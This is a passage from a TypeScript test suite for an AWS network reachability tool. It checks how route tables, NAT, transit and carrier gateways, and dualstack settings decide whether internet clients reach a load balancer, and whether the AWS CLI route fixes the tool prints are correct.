      assert.match(notes(t), /it also sends prefix list pl-0123456789abcdef0 to tgw-\S+: a prefix list's entries are not in the snapshot/);
    }
    // S3's or DynamoDB's gateway endpoint: no client there
    assert.equal(trace(withRoutes(healthyAlb(), list({ GatewayId: awsId("vpce", "s3") })), "198.51.100.7").verdict, "allow");
    // the default route to a NAT gateway denies, unless a prefix list routed to the internet gateway holds the client
    const nat = () => healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.nat });
    assert.equal(trace(nat(), "198.51.100.7").verdict, "deny");
    const t = trace(withRoutes(nat(), list({ GatewayId: ids.igw })), "198.51.100.7");
    assert.equal(t.verdict, "unknown", t.why);
    assert.equal(routeHop(t)?.fixes, undefined);
  });

  it("a gateway route table that sends the LB subnets to a firewall endpoint while the subnets route straight to the internet gateway (asymmetric) is unknown", () => {
    const edge = awsId("rtb", "edge");
    const withEdge = (routes: Array<Record<string, unknown>>) =>
      healthyAlb().edit((s) => {
        s.ec2?.RouteTables?.push({
          RouteTableId: edge,
          VpcId: ids.vpc,
          Associations: [{ Main: false, GatewayId: ids.igw, RouteTableAssociationId: awsId("rtbassoc", "edge"), RouteTableId: edge }],
          Routes: [{ DestinationCidrBlock: "10.0.0.0/16", GatewayId: "local", State: "active" }, ...routes],
        });
      });
    const t = trace(
      withEdge([
        { DestinationCidrBlock: CIDR.publicA, GatewayId: awsId("vpce", "fw-a"), State: "active" },
        { DestinationCidrBlock: CIDR.publicB, GatewayId: awsId("vpce", "fw-b"), State: "active" },
      ]),
      "Internet",
    );
    assert.equal(t.verdict, "unknown", t.why);
    assert.match(
      notes(t),
      new RegExp(
        `the internet gateway's route table ${edge} \\(a gateway route table\\) sends ${CIDR.publicA.replace(/\./g, "\\.")}, which holds ${ids.subnet.publicA}, to vpce-\\S+: the requests go through`,
      ),
    );
    assert.match(notes(t), /AWS does not support such asymmetric routing/);
    // an edge table that keeps the local route for the subnets changes nothing
    assert.equal(trace(withEdge([]), "Internet").verdict, "allow");
  });

  it("a default route to a carrier gateway denies clients on the internet with no internet-gateway fix, and says why", () => {
    const cagw = awsId("cagw", "main");
    const b = healthyAlb()
      .removeRoute(ids.rtb.public, "0.0.0.0/0")
      .edit((s) => {
        const rt = s.ec2?.RouteTables?.find((x) => x.RouteTableId === ids.rtb.public);
        if (rt)
          rt.Routes = [
            ...(rt.Routes as Array<Record<string, unknown>>),
            { DestinationCidrBlock: "0.0.0.0/0", CarrierGatewayId: cagw, State: "active" },
          ];
      });
    const t = trace(b, "Internet");
    assert.equal(t.verdict, "deny");
    assert.match(routeHop(t)?.deciding?.name ?? "", /sends 0\.0\.0\.0\/0 to cagw-\S+ \(a carrier gateway/);
    assert.equal(routeHop(t)?.fixes, undefined);
    assert.doesNotMatch(notes(t), /^(fix: |\$ )/m);
    assert.match(
      notes(t),
      new RegExp(`^no internet-gateway fix: ${cagw} is a carrier gateway, the gateway of a Wavelength Zone's subnets`, "m"),
    );
  });

  it("an internet gateway whose own route tables were not collected leaves the internet's replies unknown, and no other subnet's table in doubt", () => {
    const failed = healthyAlb().edit((s) => {
      (s.gaps ??= []).push({
        operation: "ec2:DescribeRouteTables",
        resourceId: ids.igw,
        status: 503,
        code: "ServiceUnavailable",
        message: "try later",
      });
    });
    const t = trace(failed, "Internet");
    assert.equal(t.verdict, "unknown", t.why);
    assert.match(
      notes(t),
      /the internet gateway's own route tables were not collected \(collection failed: ec2:DescribeRouteTables: ServiceUnavailable: try later\)/,
    );
    // clients in the VPC never go through the internet gateway
    assert.equal(routeHop(trace(failed, "10.0.3.7")), undefined);
    // a gap about another internet gateway leaves this one's replies allowed
    const other = healthyAlb().edit((s) => {
      (s.gaps ??= []).push({ operation: "ec2:DescribeRouteTables", resourceId: awsId("igw", "other"), status: 503, message: "try later" });
    });
    assert.equal(trace(other, "Internet").verdict, "allow");
  });
});

describe("AWS trace: --from Internet at a dualstack load balancer evaluates the other family's security groups and network ACLs", () => {
  const trace = (b: AwsScenario, from: string) => {
    const { model, r } = route(b.build(), 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp");
  };
  /** healthy-alb made dualstack, its public route table sending ::/0 to the internet gateway; its security group and ACL admit IPv4 only */
  const dual = () => withIpv6Igw(healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack")));

  it("says the IPv6 clients cannot connect when the ALB's security group or its subnets' ACL denies them, and reach the group when both admit them", () => {
    const sg = trace(dual(), "Internet");
    assert.equal(sg.verdict, "allow", sg.reason);
    assert.equal(trace(dual(), "Internet-IPv6").verdict, "deny");
    assert.match(
      sg.basis,
      new RegExp(
        `IPv6 clients on the internet cannot connect to web-tg: load balancer security group ingress · ${ids.sg.alb} \\(web-alb-sg\\) denies them: no ingress rule allows tcp 80 from IPv6 clients on the internet .*\\(trace them with --from Internet-IPv6\\)$`,
      ),
    );
    assert.doesNotMatch(sg.basis, /reach web-tg too/);
    const acl = trace(dual().ingress(ids.sg.alb, { port: 80, ipv6: ["::/0"] }), "Internet");
    assert.match(
      acl.basis,
      /IPv6 clients on the internet cannot connect to web-tg: load balancer subnet ACL inbound \(request on the listener port\) · acl-\S+ · subnets \S+ \S+ denies them: rule \* \(the implicit deny\) \(trace them with --from Internet-IPv6\)$/,
    );
    const open = trace(
      dual()
        .ingress(ids.sg.alb, { port: 80, ipv6: ["::/0"] })
        .naclAllowsIpv6(),
      "Internet",
    );
    assert.match(
      open.basis,
      /IPv6 clients on the internet reach web-tg too \(IP address type dualstack\) \(trace them with --from Internet-IPv6\)$/,
    );
    // a prefix list, whose contents are not in the snapshot, may or may not hold IPv6 clients
    const maybe = trace(
      dual()
        .ingress(ids.sg.alb, { port: 80, prefixLists: ["pl-0123456789abcdef0"] })
        .naclAllowsIpv6(),
      "Internet",
    );
    assert.equal(maybe.verdict, "allow", maybe.reason);
    assert.match(
      maybe.basis,
      /IPv6 clients on the internet reach web-tg too \(IP address type dualstack\), if load balancer security group ingress · \S+ \(web-alb-sg\) lets them through, which is not known: /,
    );
  });
});

describe("AWS trace: a DescribeRouteTables gap of one region of several concerns the subnets of that region only", () => {
  const trace = (b: AwsScenario, from: string) => {
    const { model, r } = route(b.build(), 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp");
  };
  /** healthy-alb in a snapshot of us-east-1 and eu-west-1, DescribeRouteTables failed in `region` (the gap names its place, as a wide collection's do) */
  const twoRegions = (region: string) =>
    healthyAlb()
      .edit((s) => {
        s.scope = { regions: ["us-east-1", "eu-west-1"], accounts: [ACCOUNT] };
      })
      .gap({
        operation: "ec2:DescribeRouteTables",
        status: 503,
        code: "ServiceUnavailable",
        message: `account ${ACCOUNT}, region ${region}: Service Unavailable`,
      });
  const routeHop = (t: FlowTrace) => t.hops.find((h) => h.layer === "lb-route");

  it("the internet gateway's own route tables are in doubt in the failed region only", () => {
    const elsewhere = trace(twoRegions("eu-west-1"), "Internet");
    assert.equal(routeHop(elsewhere), undefined, routeHop(elsewhere)?.notes[0]?.text);
    assert.equal(elsewhere.verdict, "allow", elsewhere.reason);
    const here = trace(twoRegions("us-east-1"), "Internet");
    assert.equal(routeHop(here)?.verdict, "unknown");
    assert.match(
      routeHop(here)?.notes[0]?.text ?? "",
      /the internet gateway's own route tables were not collected \(collection failed: ec2:DescribeRouteTables: ServiceUnavailable: account 123456789012, region us-east-1: Service Unavailable\)/,
    );
  });
});

describe("AWS trace and aws/internet-facing-in-private-subnets decide the LB subnets' route tables alike", () => {
  const PL = "pl-0123456789abcdef0";
  const list = (target: Record<string, string>) => ({ DestinationPrefixListId: PL, Origin: "CreateRoute", State: "active", ...target });
  const withRoutes = (b: AwsScenario, ...extra: Array<Record<string, unknown>>) =>
    b.edit((s) => {
      const rt = s.ec2?.RouteTables?.find((x) => x.RouteTableId === ids.rtb.public);
      if (rt) rt.Routes = [...(rt.Routes as Array<Record<string, unknown>>), ...extra];
    });
  const nat = () => healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.nat });
  const edge = (routes: Array<Record<string, unknown>>) =>
    healthyAlb().edit((s) => {
      const id = awsId("rtb", "edge");
      s.ec2?.RouteTables?.push({
        RouteTableId: id,
        VpcId: ids.vpc,
        Associations: [{ Main: false, GatewayId: ids.igw, RouteTableAssociationId: awsId("rtbassoc", "edge"), RouteTableId: id }],
        Routes: [{ DestinationCidrBlock: "10.0.0.0/16", GatewayId: "local", State: "active" }, ...routes],
      });
    });
  /** web-alb in public-a and private-b, private-b's table routing 0.0.0.0/0 to the internet gateway and the prefix list to a NAT gateway */
  const mixed = () =>
    healthyAlb()
      .removeLoadBalancer(ids.lb.alb)
      .loadBalancer({
        name: "web-alb",
        subnets: [
          { id: ids.subnet.publicA, az: "us-east-1a" },
          { id: ids.subnet.privateB, az: "us-east-1b" },
        ],
        sgs: [ids.sg.alb],
      })
      .route(ids.rtb.private, { destination: "0.0.0.0/0", target: ids.igw })
      .edit((s) => {
        const rt = s.ec2?.RouteTables?.find((x) => x.RouteTableId === ids.rtb.private);
        if (rt) rt.Routes = [...(rt.Routes as Array<Record<string, unknown>>), list({ NatGatewayId: ids.nat })];
      });
  const dual = (v6Target: string) =>
    withIpv6Igw(
      healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack")),
      v6Target,
    );

  /** each snapshot, and what both say: the trace's route-table hop (none: allow) and the rule's worst finding */
  const CASES: Array<{ name: string; b: () => AwsScenario; want: "allow" | "deny" | "unknown" }> = [
    { name: "public subnets", b: () => healthyAlb(), want: "allow" },
    { name: "0.0.0.0/0 to a NAT gateway", b: nat, want: "deny" },
    {
      name: "a prefix list to a NAT gateway beside the IGW default route",
      b: () => withRoutes(healthyAlb(), list({ NatGatewayId: ids.nat })),
      want: "unknown",
    },
    {
      name: "a prefix list to an appliance beside the IGW default route",
      b: () => withRoutes(healthyAlb(), list({ NetworkInterfaceId: awsId("eni", "fw") })),
      want: "unknown",
    },
    {
      name: "a prefix list to the internet gateway beside the IGW default route",
      b: () => withRoutes(healthyAlb(), list({ GatewayId: ids.igw })),
      want: "allow",
    },
    {
      name: "a prefix list to a gateway endpoint beside the IGW default route",
      b: () => withRoutes(healthyAlb(), list({ GatewayId: awsId("vpce", "s3") })),
      want: "allow",
    },
    {
      name: "a prefix list to the internet gateway beside a NAT default route",
      b: () => withRoutes(nat(), list({ GatewayId: ids.igw })),
      want: "unknown",
    },
    {
      name: "a prefix list to a NAT gateway beside a NAT default route",
      b: () => withRoutes(nat(), list({ NatGatewayId: ids.nat })),
      want: "deny",
    },
    {
      name: "0.0.0.0/1 and 128.0.0.0/1 to the internet gateway beside a NAT default route",
      b: () =>
        nat()
          .route(ids.rtb.public, { destination: "0.0.0.0/1", target: ids.igw })
          .route(ids.rtb.public, { destination: "128.0.0.0/1", target: ids.igw }),
      want: "allow",
    },
    {
      name: "0.0.0.0/1 and 128.0.0.0/1 to a NAT gateway beside the IGW default route",
      b: () =>
        healthyAlb()
          .route(ids.rtb.public, { destination: "0.0.0.0/1", target: ids.nat })
          .route(ids.rtb.public, { destination: "128.0.0.0/1", target: ids.nat }),
      want: "deny",
    },
    {
      name: "part of the internet to a NAT gateway",
      b: () => healthyAlb().route(ids.rtb.public, { destination: "198.51.100.0/24", target: ids.nat }),
      want: "unknown",
    },
    {
      name: "a gateway route table that sends the subnets to firewall endpoints",
      b: () =>
        edge([
          { DestinationCidrBlock: CIDR.publicA, GatewayId: awsId("vpce", "fw-a"), State: "active" },
          { DestinationCidrBlock: CIDR.publicB, GatewayId: awsId("vpce", "fw-b"), State: "active" },
        ]),
      want: "unknown",
    },
    { name: "a gateway route table that keeps the local route", b: () => edge([]), want: "allow" },
    {
      name: "the internet gateway's own route tables not collected",
      b: () =>
        healthyAlb().gap({
          operation: "ec2:DescribeRouteTables",
          resourceId: ids.igw,
          status: 503,
          code: "ServiceUnavailable",
          message: "try later",
        }),
      want: "unknown",
    },
    { name: "one zone public, the other's prefix list to a NAT gateway", b: mixed, want: "unknown" },
    { name: "dualstack, ::/0 to the internet gateway", b: () => dual(ids.igw), want: "allow" },
    { name: "dualstack, ::/0 to an egress-only internet gateway", b: () => dual(awsId("eigw", "main")), want: "deny" },
  ];
  const RANKED = { allow: 0, unknown: 1, deny: 2 } as const;
  const AS = { pass: "allow", fail: "deny", unknown: "unknown" } as const;
  /** The trace's verdict of the route tables for `--from <from>` (no route-table hop: allow), and its text for each zone */
  const traced = (b: AwsScenario, from: string) => {
    const { model, r } = route(b.build(), 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    const hop = traceFromSource(model, r, src, 80, "tcp").hops.find((h) => h.layer === "lb-route");
    const zones = new Map<string, string>();
    for (const n of hop?.notes ?? []) {
      const m = /^(subnet-\S+) in \S+: (?:(?:ALLOW|DENY|UNKNOWN), )?(.*)$/.exec(n.text);
      if (m) zones.set(m[1] as string, m[2] as string);
    }
    return { verdict: hop?.verdict ?? "allow", zones };
  };

  for (const c of CASES)
    it(`${c.name}: both say ${c.want}${c.want === "unknown" ? ", for the trace's reason" : ""}`, () => {
      const dualstack = c.name.startsWith("dualstack");
      // a dualstack load balancer: the rule judges both families, the trace one family at a time
      const traces = dualstack ? [traced(c.b(), "Internet-IPv4"), traced(c.b(), "Internet-IPv6")] : [traced(c.b(), "Internet")];
      const trace = traces.reduce((a, b) => (RANKED[b.verdict] > RANKED[a.verdict] ? b : a));
      const findings = evaluateCase(igwRule, c.b().build());
      assert.ok(findings.length > 0);
      const worst = findings.map((f) => AS[f.status as keyof typeof AS]).reduce((a, b) => (RANKED[b] > RANKED[a] ? b : a));
      assert.equal(trace.verdict, c.want, "the trace");
      assert.equal(worst, c.want, `the rule: ${findings.map((f) => f.message).join(" | ")}`);
      for (const f of findings) {
        if (f.status !== "unknown") continue;
        const why = traces.map((t) => t.zones.get(f.resourceId ?? "")).find((x) => x !== undefined);
        assert.ok(why, `the trace speaks of ${f.resourceId}`);
        assert.ok(f.message.includes(why), `the rule's reason is the trace's:\n${f.message}\n${why}`);
      }
    });

  it("a carrier gateway: the trace denies clients on the internet, the rule leaves the zone unknown (its clients may be the carrier network's)", () => {
    const b = () =>
      withRoutes(healthyAlb().removeRoute(ids.rtb.public, "0.0.0.0/0"), {
        DestinationCidrBlock: "0.0.0.0/0",
        CarrierGatewayId: awsId("cagw", "main"),
        State: "active",
      });
    assert.equal(traced(b(), "Internet").verdict, "deny");
    const findings = evaluateCase(igwRule, b().build());
    assert.deepEqual(
      findings.map((f) => f.status),
      ["unknown", "unknown"],
    );
    assert.match(findings[0]?.message ?? "", /carrier gateway/);
  });
});

describe("aws/internet-facing-in-private-subnets and the trace: connected networks, the routes a fix removes, the subnets it names, and time linear in the snapshot", () => {
  type Wire = Record<string, unknown>;
  const RANKED = { allow: 0, unknown: 1, deny: 2 } as const;
  const AS = { pass: "allow", fail: "deny", unknown: "unknown" } as const;
  const table = (s: AwsSnapshot, id: string) => {
    const t = s.ec2?.RouteTables?.find((x) => x.RouteTableId === id);
    assert.ok(t, id);
    return t as Wire & { Routes: Wire[]; Associations: Wire[] };
  };
  /** `b` with these wire routes added to route table `rtb` */
  const withWire = (b: AwsScenario, rtb: string, ...routes: Wire[]) =>
    b.edit((s) => {
      const t = table(s, rtb);
      t.Routes = [...t.Routes, ...routes];
    });
  const v4 = (destination: string, next: Wire): Wire => ({ DestinationCidrBlock: destination, State: "active", ...next });
  const v6 = (destination: string, next: Wire): Wire => ({ DestinationIpv6CidrBlock: destination, State: "active", ...next });
  /** web-alb dualstack, ::/0 from its public route table to `target` */
  const dual = (target: string = ids.igw) =>
    withIpv6Igw(
      healthyAlb().editLb(ids.lb.alb, (x) => void (x.IpAddressType = "dualstack")),
      target,
    );
  const traceOf = (snap: AwsSnapshot, from: string) => {
    const { model, r } = route(snap, 80);
    const src = parseSource(model, from);
    assert.ok(!("error" in src), JSON.stringify(src));
    return traceFromSource(model, r, src, 80, "tcp").hops.find((h) => h.layer === "lb-route");
  };
  const familiesOf = (snap: AwsSnapshot) =>
    (snap.elbv2.LoadBalancers?.find((x) => x.LoadBalancerArn === ids.lb.alb)?.IpAddressType ?? "ipv4") === "dualstack"
      ? ["Internet-IPv4", "Internet-IPv6"]
      : ["Internet"];
  /** the trace's verdict on the route tables (the worst of the families; no hop: allow), and the rule's worst finding */
  const verdicts = (snap: AwsSnapshot) => {
    const hops = familiesOf(snap).map((from) => traceOf(snap, from));
    const trace = hops.map((h) => h?.verdict ?? "allow").reduce((a, b) => (RANKED[b] > RANKED[a] ? b : a));
    const findings = evaluateCase(igwRule, snap);
    assert.ok(findings.length > 0);
    const rule = findings.map((f) => AS[f.status as keyof typeof AS]).reduce((a, b) => (RANKED[b] > RANKED[a] ? b : a));
    return { trace, rule, hops, findings };
  };

  /**
   * The snapshot as it is once the printed commands ran, each read as the shell reads it: the route commands change the
   * route table they name (create-route fails on a route that exists, delete-route on one that does not), set-subnets
   * replaces the load balancer's subnets, and the association commands move the subnet to the table they name. A gateway
   * the user fills in (`<igw-id>`) is the VPC's internet gateway.
   */
  const applied = async (snap: AwsSnapshot, commands: string[]): Promise<AwsSnapshot> => {
    const { shWords } = await import("../src/providers/aws/kubernetes.ts");
    const s = structuredClone(snap);
    for (const c of commands) {
      const w = shWords(c);
      assert.ok(w, `a command the shell reads as plain words: ${c}`);
      const arg = (flag: string) => {
        const i = w.indexOf(flag);
        return i < 0 ? undefined : w[i + 1];
      };
      const verb = `${w[1]} ${w[2]}`;
      if (verb === "ec2 describe-internet-gateways") continue;
      if (verb === "ec2 create-route" || verb === "ec2 replace-route" || verb === "ec2 delete-route") {
        const t = table(s, arg("--route-table-id") as string);
        const ipv6 = arg("--destination-ipv6-cidr-block");
        const dest = ipv6 ?? arg("--destination-cidr-block");
        const field = ipv6 ? "DestinationIpv6CidrBlock" : "DestinationCidrBlock";
        const had = t.Routes.some((r) => r[field] === dest);
        assert.equal(had, verb !== "ec2 create-route", `${c}: the route ${had ? "exists" : "does not exist"}`);
        t.Routes = t.Routes.filter((r) => r[field] !== dest);
        if (verb !== "ec2 delete-route") {
          const gw = arg("--gateway-id") as string;
          t.Routes.push({ [field]: dest, GatewayId: gw.startsWith("<") ? ids.igw : gw, Origin: "CreateRoute", State: "active" });
        }
      } else if (verb === "elbv2 set-subnets") {
        const lb = s.elbv2.LoadBalancers?.find((x) => x.LoadBalancerArn === arg("--load-balancer-arn"));
        assert.ok(lb);
        const subnets = w.slice(w.indexOf("--subnets") + 1);
        lb.AvailabilityZones = subnets.map((id) => ({
          ZoneName: s.ec2?.Subnets?.find((x) => x.SubnetId === id)?.AvailabilityZone,
          SubnetId: id,
          LoadBalancerAddresses: [],
        }));
      } else if (verb === "ec2 associate-route-table") {
        const subnet = arg("--subnet-id");
        for (const t of s.ec2?.RouteTables ?? [])
          assert.ok(!(t.Associations as Wire[]).some((a) => a.SubnetId === subnet), `${c}: ${subnet} has an association already`);
        table(s, arg("--route-table-id") as string).Associations.push({
          Main: false,
          SubnetId: subnet,
          RouteTableAssociationId: awsId("rtbassoc", `applied-${subnet}`),
          RouteTableId: arg("--route-table-id"),
        });
      } else if (verb === "ec2 replace-route-table-association") {
        const id = arg("--association-id");
        const from = s.ec2?.RouteTables?.find((t) => (t.Associations as Wire[]).some((a) => a.RouteTableAssociationId === id));
        assert.ok(from, `${c}: no association ${id}`);
        const a = (from.Associations as Wire[]).find((x) => x.RouteTableAssociationId === id) as Wire;
        from.Associations = (from.Associations as Wire[]).filter((x) => x !== a);
        table(s, arg("--route-table-id") as string).Associations.push({ ...a, RouteTableId: arg("--route-table-id") });
      } else assert.fail(`a command this test does not apply: ${c}`);
    }
    return s;
  };
  /** The rule's remediation of each failing zone, as one list of commands (each zone's, once). */
  const fixOf = (findings: ReturnType<typeof evaluateCase>) => [
    ...new Set(findings.filter((f) => f.status === "fail").flatMap((f) => f.remediation?.commands ?? [])),
  ];

  // a public range of the internet that a connected network holds: a partner's network over a VPN, another VPC's IPv6 CIDR
  const partner = "203.0.113.0/24";
  const otherVpc6 = "2600:1f18:beef:4400::/56";
  const CONNECTED: Array<{ name: string; b: () => AwsScenario; want: "allow" | "deny" | "unknown" }> = [
    {
      name: "dualstack: ::/0 to the internet gateway, another VPC's IPv6 CIDR to a transit gateway",
      b: () => withWire(dual(), ids.rtb.public, v6(otherVpc6, { TransitGatewayId: awsId("tgw", "core") })),
      want: "allow",
    },
    {
      name: "dualstack: ::/0 to the internet gateway, another VPC's IPv6 CIDR to a peering connection",
      b: () => withWire(dual(), ids.rtb.public, v6(otherVpc6, { VpcPeeringConnectionId: awsId("pcx", "peer") })),
      want: "allow",
    },
    {
      name: "a partner's public range to a virtual private gateway (a VPN) beside the IGW default route",
      b: () => withWire(healthyAlb(), ids.rtb.public, v4(partner, { GatewayId: awsId("vgw", "vpn"), Origin: "EnableVgwRoutePropagation" })),
      want: "allow",
    },
    {
      name: "a public range to a transit gateway beside the IGW default route",
      b: () => withWire(healthyAlb(), ids.rtb.public, v4(partner, { TransitGatewayId: awsId("tgw", "corp") })),
      want: "allow",
    },
    {
      name: "a public range to an Outpost's local gateway beside the IGW default route",
      b: () => withWire(healthyAlb(), ids.rtb.public, v4(partner, { LocalGatewayId: awsId("lgw", "outpost") })),
      want: "allow",
    },
    {
      name: "a public range to a Cloud WAN core network beside the IGW default route",
      b: () =>
        withWire(
          healthyAlb(),
          ids.rtb.public,
          v4(partner, { CoreNetworkArn: `arn:aws:networkmanager::${ACCOUNT}:core-network/core-network-0123456789abcdef0` }),
        ),
      want: "allow",
    },
    {
      name: "a public range to a NAT gateway beside the IGW default route (outbound only: still unknown)",
      b: () => withWire(healthyAlb(), ids.rtb.public, v4(partner, { NatGatewayId: ids.nat })),
      want: "unknown",
    },
    {
      name: "a public range to a firewall appliance beside the IGW default route (still unknown)",
      b: () => withWire(healthyAlb(), ids.rtb.public, v4(partner, { NetworkInterfaceId: awsId("eni", "fw") })),
      want: "unknown",
    },
    {
      name: "a public range to a transit gateway whose attachment is gone (a blackhole: still unknown)",
      b: () => withWire(healthyAlb(), ids.rtb.public, v4(partner, { TransitGatewayId: awsId("tgw", "corp"), State: "blackhole" })),
      want: "unknown",
    },
    {
      name: "0.0.0.0/0 to a transit gateway (every address on the internet)",
      b: () => healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: awsId("tgw", "egress") }),
      want: "deny",
    },
    {
      name: "0.0.0.0/1 and 128.0.0.0/1 to a transit gateway beside the IGW default route (every address on the internet)",
      b: () =>
        healthyAlb()
          .route(ids.rtb.public, { destination: "0.0.0.0/1", target: awsId("tgw", "egress") })
          .route(ids.rtb.public, { destination: "128.0.0.0/1", target: awsId("tgw", "egress") }),
      want: "deny",
    },
    {
      name: "dualstack: ::/0 to an egress-only internet gateway beside another VPC's IPv6 CIDR to a transit gateway",
      b: () => withWire(dual(awsId("eigw", "main")), ids.rtb.public, v6(otherVpc6, { TransitGatewayId: awsId("tgw", "core") })),
      want: "deny",
    },
  ];
  for (const c of CONNECTED)
    it(`${c.name}: the trace and the rule say ${c.want}`, () => {
      const { trace, rule, hops, findings } = verdicts(c.b().build());
      assert.equal(
        trace,
        c.want,
        `the trace: ${hops
          .flatMap((h) => h?.notes ?? [])
          .map((n) => n.text)
          .join(" | ")}`,
      );
      assert.equal(rule, c.want, `the rule: ${findings.map((f) => f.message).join(" | ")}`);
      for (const f of findings.filter((x) => x.status === "unknown")) {
        const said = hops.flatMap((h) => h?.notes ?? []).map((n) => n.text.replace(/^subnet-\S+ in \S+: (?:UNKNOWN, )?/, ""));
        assert.ok(
          said.some((t) => f.message.includes(t)),
          `the rule's reason is the trace's:\n${f.message}\n${said.join("\n")}`,
        );
      }
    });

  it("routes to connected networks that take the whole internet: a failure without a route fix (their networks' clients are not the table's to decide); with a NAT route beside them, the fix deletes only the NAT route", async () => {
    const split = () =>
      healthyAlb()
        .route(ids.rtb.public, { destination: "0.0.0.0/1", target: awsId("tgw", "egress") })
        .route(ids.rtb.public, { destination: "128.0.0.0/1", target: awsId("tgw", "egress") });
    const all = verdicts(split().build());
    assert.deepEqual(
      all.findings.map((f) => [f.status, f.remediation]),
      [
        ["fail", undefined],
        ["fail", undefined],
      ],
    );
    assert.match(all.findings[0]?.message ?? "", /sends 0\.0\.0\.0\/1 to tgw-\S+, and sends 128\.0\.0\.0\/1 to tgw-/);
    assert.equal(all.hops[0]?.fixes, undefined);
    // half to a transit gateway, half to a NAT gateway: the NAT route goes; the transit gateway's half is its network's
    const mixed = healthyAlb()
      .route(ids.rtb.public, { destination: "0.0.0.0/1", target: awsId("tgw", "egress") })
      .route(ids.rtb.public, { destination: "128.0.0.0/1", target: ids.nat })
      .build();
    const before = verdicts(mixed);
    assert.equal(before.rule, "deny");
    const commands = fixOf(before.findings);
    assert.deepEqual(commands, [`aws ec2 delete-route --route-table-id ${ids.rtb.public} --destination-cidr-block 128.0.0.0/1`]);
    assert.deepEqual(before.hops[0]?.fixes?.[0]?.commands, commands);
    const after = verdicts(await applied(mixed, commands));
    // what is left, 0.0.0.0/1 to the transit gateway beside 0/0 to the internet gateway, takes half the internet: too
    // wide to be a connected network's range (an IPv4 /8 at most), so whether its clients are the internet's is unknown
    assert.deepEqual([after.trace, after.rule], ["unknown", "unknown"]);
  });

  it("no route fix where an internet-gateway route cannot bring the replies back: routes to connected networks that take the whole internet under a NAT default route, or a carrier gateway's route (a Wavelength Zone's subnet)", () => {
    const cases = [
      healthyAlb()
        .route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.nat })
        .route(ids.rtb.public, { destination: "0.0.0.0/1", target: awsId("tgw", "egress") })
        .route(ids.rtb.public, { destination: "128.0.0.0/1", target: awsId("tgw", "egress") }),
      withWire(
        healthyAlb().route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.nat }),
        ids.rtb.public,
        v4("0.0.0.0/2", { CarrierGatewayId: awsId("cagw", "main") }),
      ),
    ];
    for (const b of cases) {
      const { trace, rule, hops, findings } = verdicts(b.build());
      assert.deepEqual([trace, rule], ["deny", "deny"]);
      assert.deepEqual(fixOf(findings), [], findings.map((f) => f.message).join("\n"));
      assert.equal(hops[0]?.fixes, undefined);
    }
  });

  /** denied by routes more specific than the default route: the fix names them and deletes them, in the rule and the trace */
  const SPECIFIC: Array<{ name: string; b: () => AwsScenario; named: RegExp; commands: RegExp[] }> = [
    {
      name: "0.0.0.0/0 and 0.0.0.0/2 to a NAT gateway",
      b: () =>
        healthyAlb()
          .route(ids.rtb.public, { destination: "0.0.0.0/0", target: ids.nat })
          .route(ids.rtb.public, { destination: "0.0.0.0/2", target: ids.nat }),
      named: /sends 0\.0\.0\.0\/0 to nat-\S+ \(a NAT gateway: outbound only\), and sends 0\.0\.0\.0\/2 to nat-\S+ \(a NAT gateway/,
      commands: [
        /^aws ec2 describe-internet-gateways /,
        /^aws ec2 replace-route --route-table-id \S+ --destination-cidr-block 0\.0\.0\.0\/0 --gateway-id '<igw-id>'$/,
        /^aws ec2 delete-route --route-table-id \S+ --destination-cidr-block 0\.0\.0\.0\/2$/,
      ],
    },
    {
      name: "no default route, and 128.0.0.0/1 to a NAT gateway",
      b: () => healthyAlb().removeRoute(ids.rtb.public, "0.0.0.0/0").route(ids.rtb.public, { destination: "128.0.0.0/1", target: ids.nat }),
      named: /has no 0\.0\.0\.0\/0 route, and sends 128\.0\.0\.0\/1 to nat-/,
      commands: [
        /^aws ec2 describe-internet-gateways /,
        /^aws ec2 create-route --route-table-id \S+ --destination-cidr-block 0\.0\.0\.0\/0 --gateway-id '<igw-id>'$/,
        /^aws ec2 delete-route --route-table-id \S+ --destination-cidr-block 128\.0\.0\.0\/1$/,
      ],
    },
    {
      name: "0.0.0.0/0 to the internet gateway, 0.0.0.0/1 and 128.0.0.0/1 to a NAT gateway",
      b: () =>
        healthyAlb()
          .route(ids.rtb.public, { destination: "0.0.0.0/1", target: ids.nat })
          .route(ids.rtb.public, { destination: "128.0.0.0/1", target: ids.nat }),
      named: /sends 0\.0\.0\.0\/1 to nat-\S+ \(a NAT gateway: outbound only\), and sends 128\.0\.0\.0\/1 to nat-/,
      commands: [
        /^aws ec2 delete-route --route-table-id \S+ --destination-cidr-block 0\.0\.0\.0\/1$/,
        /^aws ec2 delete-route --route-table-id \S+ --destination-cidr-block 128\.0\.0\.0\/1$/,
      ],
    },
    {
      name: "dualstack: ::/0 to the internet gateway, 2000::/3 (every global unicast address) to an egress-only internet gateway",
      b: () => withWire(dual(), ids.rtb.public, v6("2000::/3", { EgressOnlyInternetGatewayId: awsId("eigw", "main") })),
      named:
        /no IPv6 route to an internet gateway: .* sends 2000::\/3 to eigw-\S+ \(an egress-only internet gateway: outbound only\), more specific than its ::\/0 route to igw-/,
      commands: [/^aws ec2 delete-route --route-table-id \S+ --destination-ipv6-cidr-block 2000::\/3$/],
    },
  ];
  for (const c of SPECIFIC)
    it(`${c.name}: the rule and the trace name the more specific routes and fix them all; once the commands ran, both allow`, async () => {
      const snap = c.b().build();
      const before = verdicts(snap);
      assert.deepEqual([before.trace, before.rule], ["deny", "deny"]);
      for (const f of before.findings) assert.match(f.message, c.named);
      const commands = fixOf(before.findings);
      assert.equal(commands.length, c.commands.length, commands.join("\n"));
      for (const [i, re] of c.commands.entries()) assert.match(commands[i] ?? "", re);
      // the trace's hop gives the same fix
      const hop = before.hops.find((h) => h?.verdict === "deny");
      assert.deepEqual(hop?.fixes?.[0]?.commands, commands);
      assert.match(hop?.fixes?.[0]?.summary ?? "", /more specific routes? /);
      const after = verdicts(await applied(snap, commands));
